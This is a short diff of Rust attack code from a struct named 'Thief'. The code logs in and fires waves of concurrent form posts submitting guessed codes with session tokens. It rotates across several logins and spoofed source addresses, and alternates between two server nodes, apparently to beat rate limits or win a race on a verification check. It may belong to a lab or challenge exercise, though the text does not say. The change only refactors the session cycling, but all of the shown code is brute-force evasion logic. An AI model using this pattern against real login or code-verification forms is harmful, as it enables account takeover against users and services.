@@ -34,12 +34,13 @@ impl Thief<'_> {
     async fn wave(&mut self) -> Result<usize> {
         self.log_in().await?;
         let code = self.wrong_code()?;
-        let posts = (0..self.guesses).map(|number| {
-            let (browser, token) = &self.logins[number % LOGINS];
+        let posts = (0..self.guesses).zip(self.logins.iter().cycle());
+        let posts = posts.map(|(number, (browser, token))| {
             let mut browser = browser.clone();
             browser.from = address(number % ADDRESSES);
-            let node = [self.house.address, self.second.address][number % 2];
-            browser.go_to(node);
+            if number % 2 == 1 {
+                browser.go_to(self.second.address);
+            }
             let (token, code) = (token.clone(), code.clone());
             async move {
                 let form = [("form_token", token.as_str()), ("code", &code)];
